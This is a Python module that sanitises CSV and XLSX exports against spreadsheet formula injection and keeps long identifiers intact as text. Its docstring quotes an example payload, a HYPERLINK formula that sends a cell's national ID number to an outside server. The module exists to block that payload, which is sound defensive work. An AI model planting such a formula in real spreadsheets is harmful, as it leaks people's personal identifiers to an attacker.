"""Every CSV and XLSX the system writes goes through here, so no file we hand out carries a formula.

Spreadsheet programs run a cell that starts with `=`, `+`, `-` or `@` (and, after a tab or CR,
whatever follows) as a formula: a name typed as `=HYPERLINK("http://x/?"&A2,"Klik")` would become
a live link that sends the NIK in A2 to someone else's server (OWASP "CSV injection"). So:
- a text cell starting with one of those characters gets a leading `'` (CSV and XLSX alike, so a
  file saved again from Excel as CSV stays safe);
- XLSX cells are written as values: openpyxl would turn a string starting with `=` into a
  formula, which the leading `'` already prevents, and text cells are forced to the string type;
- characters that XML 1.0 cannot hold (control characters such as `\\u0001`, which openpyxl
  refuses with IllegalCharacterError) are dropped, so a stored value can never make an export fail;
- identifier columns (NIK, HP, KPJ, village code) are text cells formatted as Text (`@`): as a
  number Excel would keep 15 digits of a 16-digit NIK.
Pure: no AWS. openpyxl is imported only by the functions that write XLSX.
"""

from __future__ import annotations

import csv
import io
import re
from collections.abc import Iterable, Sequence
from dataclasses import dataclass, field
from datetime import date, datetime
from typing import Any

FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
# What XML 1.0 (and so XLSX) cannot carry; openpyxl's ILLEGAL_CHARACTERS_RE plus DEL and lone surrogates.
_ILLEGAL = re.compile(r"[\x00-\x08\x0b\x0c\x0e-\x1f\x7f\ud800-\udfff\ufffe\uffff]")
TEXT_FORMAT = "@"


def clean(text: str) -> str:
    """Drop the characters no spreadsheet file may hold (a stored `\\u0001` must not break an export)."""
    return _ILLEGAL.sub("", text)


def cell_text(value: Any) -> Any:
    """A value as it may be written into a file: text cleaned and defused; numbers and dates as they are."""
    if value is None:
        return ""
    if isinstance(value, bool | int | float | datetime | date):
        return value
    text = clean(str(value))
    return "'" + text if text.startswith(FORMULA_START) else text


def _csv_value(value: Any) -> Any:
    value = cell_text(value)
    return value.isoformat() if isinstance(value, date | datetime) else value


def csv_bytes(header: Sequence[str], rows: Iterable[Sequence[Any]], delimiter: str = ",") -> bytes:
    """UTF-8 with a BOM (so Excel reads names with their accents), every cell through cell_text."""
    out = io.StringIO()
    writer = csv.writer(out, delimiter=delimiter)
    writer.writerow([_csv_value(h) for h in header])
    writer.writerows([_csv_value(v) for v in row] for row in rows)
    return ("\ufeff" + out.getvalue()).encode("utf-8")


@dataclass
class SheetSpec:
    """One worksheet: header row, data rows, and the 0-based columns that hold identifiers (text)."""

    title: str
    header: Sequence[str]
    rows: Iterable[Sequence[Any]]
    text_columns: frozenset[int] = field(default_factory=frozenset)
    widths: dict[int, float] = field(default_factory=dict)


def xlsx_cell(sheet: Any, value: Any, as_text: bool = False) -> Any:
    """A write-only cell holding `value` as a value, never a formula."""
    from openpyxl.cell import WriteOnlyCell

    value = cell_text(value)
    if as_text and not isinstance(value, str):
        value = cell_text(str(value))
    cell = WriteOnlyCell(sheet, value=value)
    if isinstance(value, str):
        cell.data_type = "s"  # belt and braces: openpyxl infers 'f' for a leading '='
    if as_text:
        cell.number_format = TEXT_FORMAT
    return cell


def xlsx_row(sheet: Any, values: Sequence[Any], text_columns: frozenset[int] = frozenset()) -> list[Any]:
    """Plain values for ordinary cells (fast), cells formatted as Text for identifiers."""
    out: list[Any] = []
    for i, v in enumerate(values):
        if i in text_columns:
            out.append(xlsx_cell(sheet, v, as_text=True))
            continue
        v = cell_text(v)
        out.append(xlsx_cell(sheet, v) if isinstance(v, str) and v.startswith("=") else v)
    return out


def xlsx_bytes(sheets: Sequence[SheetSpec]) -> bytes:
    """A streaming (write-only) workbook: memory stays flat for 26,775 rows."""
    from openpyxl import Workbook
    from openpyxl.utils import get_column_letter

    workbook = Workbook(write_only=True)
    for spec in sheets:
        sheet = workbook.create_sheet(clean(spec.title)[:31] or "Sheet")
        for index, width in spec.widths.items():
            sheet.column_dimensions[get_column_letter(index + 1)].width = width
        sheet.append([cell_text(h) for h in spec.header])
        for row in spec.rows:
            sheet.append(xlsx_row(sheet, row, spec.text_columns))
    out = io.BytesIO()
    workbook.save(out)
    return out.getvalue()
